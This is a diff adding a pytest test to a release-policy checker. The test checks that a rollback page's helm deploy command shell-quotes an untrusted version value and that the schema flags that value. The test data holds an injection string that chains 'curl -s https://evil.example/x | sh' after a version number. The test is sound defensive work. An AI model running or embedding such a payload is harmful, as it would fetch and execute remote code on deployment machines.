@@ -7,6 +7,7 @@ a danger box's title; before, that title was the one place an id went unescaped.
 
 from __future__ import annotations
 
+import shlex
 from pathlib import Path
 
 import pytest
@@ -35,3 +36,26 @@ def test_a_hostile_id_is_text_on_the_page_that_names_it(tmp_path: Path, hostile:
         box = [line for line in text.splitlines() if line.startswith('!!! danger "Superseded:')]
         assert len(box) == 1 and box[0].endswith('is the release in production now"'), (page, box)
         assert "Superseded:" in dom(text).text()
+
+
+def test_a_last_known_good_is_one_shell_word_in_the_deploy_command(tmp_path: Path) -> None:
+    """The policy's deploy template is trusted, the record's version is not: pasted at 2 a.m., the command
+    must re-deploy a version, never run a second command. The schema refuses such a version too."""
+    root = copy_example(tmp_path / "p")
+    policy = root / "releases" / "policy.yaml"
+    policy.write_text(
+        policy.read_text(encoding="utf-8")
+        + 'operations:\n  deploy: "helm upgrade fes charts/fes --set image.tag={version}"\n',
+        encoding="utf-8",
+    )
+    record = "releases/2026-12-phase-3-question-bank.yaml"
+    evil = "4.2.1 --dry-run; curl -s https://evil.example/x | sh; #"
+    edit(root / record, "last_known_good: 4.2.1}", f'last_known_good: "{evil}"}}')
+    result = check(root)
+    assert [
+        f for f in result.findings if f.rule == "FES010" and f.loc.file == record and "last_known_good" in f.message
+    ]
+    page = render_pages(result)["2026-12-phase-3-question-bank/rollback.md"]
+    lines = [line for line in page.splitlines() if line.startswith("helm upgrade")]
+    assert lines == [f"helm upgrade fes charts/fes --set image.tag='{evil}'"], lines
+    assert shlex.split(lines[0])[-1] == f"image.tag={evil}"  # one word: the shell runs helm, and only helm
